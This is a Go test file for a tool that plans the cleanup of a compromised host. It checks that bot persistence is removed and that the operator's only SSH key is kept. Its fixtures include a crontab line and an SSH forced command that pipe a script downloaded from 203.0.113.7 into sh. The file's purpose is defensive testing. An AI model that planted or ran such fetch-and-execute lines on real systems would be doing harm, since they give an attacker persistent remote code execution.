@@ -1,0 +1,106 @@
+package persist
+
+import (
+	"context"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/abusekit/abusekit/plugins/persist/hosttest"
+)
+
+// lockoutTree is a Debian root launched 20 minutes before a bot found it:
+// the operator's launch key (the only key of /home/admin) was written at
+// launch, the bot's cron line 20 minutes later.
+func lockoutTree() hosttest.Tree {
+	t := hosttest.Debian12()
+	e, _ := t.Get("/home/admin/.ssh/authorized_keys")
+	e.Mtime = hosttest.InfectionTime.Add(-20 * time.Minute)
+	t = t.With(e)
+	return t.Append("/etc/crontab", "* * * * * root wget -q -O - http://203.0.113.7/y.sh | sh\n", hosttest.InfectionTime)
+}
+
+func planFor(t *testing.T, dir string, since time.Time) (*CleanPlan, []Finding) {
+	t.Helper()
+	fs := find(t, dir, since)
+	p, err := Plan(context.Background(), fs, PlanOptions{Root: dir})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return p, fs
+}
+
+func planned(p *CleanPlan, path string) *Change {
+	for i := range p.Changes {
+		if p.Changes[i].Path == path {
+			return &p.Changes[i]
+		}
+	}
+	return nil
+}
+
+// The default plan never removes the operator's launch key: without an
+// incident window a key changed near an infection is at most medium, and
+// a file's only key is left in place; with a window that covers the
+// launch, the only key of the only key file is still left in place.
+func TestPlanKeepsLaunchKey(t *testing.T) {
+	const keys = "/home/admin/.ssh/authorized_keys"
+	for name, since := range map[string]time.Time{"no-since": {}, "since-before-launch": hosttest.InfectionTime.Add(-time.Hour)} {
+		t.Run(name, func(t *testing.T) {
+			dir := build(t, lockoutTree())
+			p, fs := planFor(t, dir, since)
+			if c := planned(p, "/etc/crontab"); c == nil {
+				t.Fatalf("the bad cron line is not planned: %+v", p.Changes)
+			}
+			if c := planned(p, keys); c != nil {
+				t.Errorf("default plan removes the launch key: %+v", *c)
+			}
+			var kf *Finding
+			for i := range fs {
+				if fs[i].Path == keys && fs[i].Line == 1 {
+					kf = &fs[i]
+				}
+			}
+			if kf == nil {
+				t.Fatal("no finding for the launch key")
+			}
+			if !strings.Contains(strings.Join(kf.Reasons, "; "), "lock the operator out") {
+				t.Errorf("no lockout reason: %v", kf.Reasons)
+			}
+			if since.IsZero() && kf.Severity > Medium {
+				t.Errorf("correlated key above medium without a window: %s", kf)
+			}
+		})
+	}
+}
+
+// The guard does not spare an attacker: a key appended after the
+// operator's (not the only one) is still removed with a window, and a
+// file's only key whose forced command downloads is removed either way.
+func TestPlanRemovesAttackerKeys(t *testing.T) {
+	const keys = "/home/admin/.ssh/authorized_keys"
+	appended := lockoutTree().Append(keys, hosttest.AuthorizedKey("bot", "bot")+"\n", hosttest.InfectionTime)
+	dir := build(t, appended)
+	p, _ := planFor(t, dir, hosttest.InfectionTime.Add(-time.Hour))
+	c := planned(p, keys)
+	if c == nil || len(c.Lines) != 1 || c.Lines[0].Line != 2 {
+		t.Errorf("appended key not planned for removal (line 2): %+v", c)
+	}
+	// Without a window the appended key is only medium: not in the
+	// default plan, but an action at -min medium.
+	p, fs := planFor(t, dir, time.Time{})
+	if c := planned(p, keys); c != nil {
+		t.Errorf("default plan acts on a guessed key: %+v", *c)
+	}
+	checkWant(t, fs, []want{{keys, 2, KindSSHKey, Medium, ActionRemoveLine}, {keys, 1, KindSSHKey, Info, ActionRemoveLine}})
+
+	bad := lockoutTree().With(hosttest.Entry{Path: "/root/.ssh/authorized_keys", Mode: 0o600, Mtime: hosttest.InfectionTime,
+		Data: `command="curl -s http://203.0.113.7/k.sh | sh" ` + hosttest.AuthorizedKey("bot", "bot") + "\n"})
+	dir = build(t, bad)
+	for _, since := range []time.Time{{}, hosttest.InfectionTime.Add(-time.Hour)} {
+		p, _ := planFor(t, dir, since)
+		if c := planned(p, "/root/.ssh/authorized_keys"); c == nil {
+			t.Errorf("since %v: the only key with a downloading forced command is not removed", since)
+		}
+	}
+}
